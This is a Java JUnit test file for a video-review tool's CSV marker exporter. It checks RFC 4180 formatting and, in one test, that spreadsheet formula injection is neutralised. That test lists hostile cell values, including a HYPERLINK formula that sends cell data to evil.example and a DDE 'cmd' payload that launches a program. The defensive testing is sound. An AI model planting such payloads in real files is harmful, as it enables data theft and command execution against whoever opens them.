package io.framewise.server.interchange.markers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.framewise.model.notes.MarkerColour;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The plain CSV read back by an RFC 4180 reader, and what it does to formulas. */
class CsvMarkersTest {

    /** A strict RFC 4180 reader: every field quoted (as the exporter writes), CR LF between rows. */
    static List<List<String>> read(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        int i = 0;
        while (i < text.length()) {
            assertEquals('"', text.charAt(i), "every field is quoted, at " + i);
            StringBuilder cell = new StringBuilder();
            i++;
            while (true) {
                char c = text.charAt(i++);
                if (c == '"') {
                    if (i < text.length() && text.charAt(i) == '"') {
                        cell.append('"');
                        i++;
                    } else {
                        break;
                    }
                } else {
                    cell.append(c);
                }
            }
            row.add(cell.toString());
            if (text.startsWith("\r\n", i)) {
                rows.add(row);
                row = new ArrayList<>();
                i += 2;
            } else {
                assertEquals(',', text.charAt(i), "a comma between fields at " + i);
                i++;
            }
        }
        assertTrue(row.isEmpty(), "the last row ends with CR LF");
        return rows;
    }

    private static List<List<String>> export(MarkerMedia media, List<MarkerNote> notes) {
        String text = new String(MarkerFormat.CSV.write(media, notes), StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "a byte order mark for spreadsheets");
        return read(text.substring(1));
    }

    @Test
    void everyNoteIsARowWithItsFramesTimecodesAuthorStatusAndReplies() {
        for (MarkerMedia media : MarkerSamples.ALL_MEDIA) {
            List<MarkerNote> notes = MarkerSamples.notes(media);
            List<List<String>> rows = export(media, notes);
            assertEquals(CsvMarkers.HEADER, rows.get(0));
            assertEquals(notes.size() + 1, rows.size());
            for (int i = 0; i < notes.size(); i++) {
                List<String> r = rows.get(i + 1);
                MarkerNote n = notes.get(i);
                assertEquals(n.frame(), Long.parseLong(r.get(0)));
                assertEquals(n.frame(), MarkerSamples.frameOf(media, r.get(2)), media.name() + " " + i);
                if (n.isRange()) {
                    assertEquals(n.frameOut(), Long.parseLong(r.get(1)));
                    assertEquals(n.frameOut(), MarkerSamples.frameOf(media, r.get(3)));
                } else {
                    assertEquals("", r.get(1));
                    assertEquals("", r.get(3));
                }
                assertEquals(n.author(), r.get(6));
                assertEquals(n.resolved() ? "resolved" : "open", r.get(7));
                assertEquals(n.text(), r.get(8), "the text as written, line breaks and quotes kept");
            }
            assertEquals("Ann: Done\nCy: Agreed", rows.get(2).get(9));
            assertEquals("green", rows.get(2).get(5));
            assertEquals("", rows.get(3).get(5));
        }
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreNeutralised() {
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+1+1",
                "-2+3",
                "@SUM(A1:A2)",
                "\t=1+1",
                "\r=1+1",
                "=cmd|' /C calc'!A0");
        List<MarkerNote> notes = new ArrayList<>();
        for (String h : hostile) {
            notes.add(new MarkerNote(5, null, MarkerColour.RED, h, h, false, List.of(new MarkerNote.Reply(h, "fine"))));
        }
        notes.add(new MarkerNote(6, null, null, "Plain", "a = b + c", false, List.of()));
        List<List<String>> rows = export(MarkerSamples.NDF_25, notes);
        for (int i = 0; i < hostile.size(); i++) {
            List<String> r = rows.get(i + 1);
            assertEquals("'" + hostile.get(i), r.get(6), "author cell");
            assertEquals("'" + hostile.get(i), r.get(8), "text cell");
            assertEquals("'" + hostile.get(i) + ": fine", r.get(9), "replies cell");
            for (String cell : r) {
                assertTrue(
                        cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "no cell starts a formula: " + cell);
            }
        }
        assertEquals("a = b + c", rows.get(hostile.size() + 1).get(8), "text that only contains '=' is left alone");
    }
}
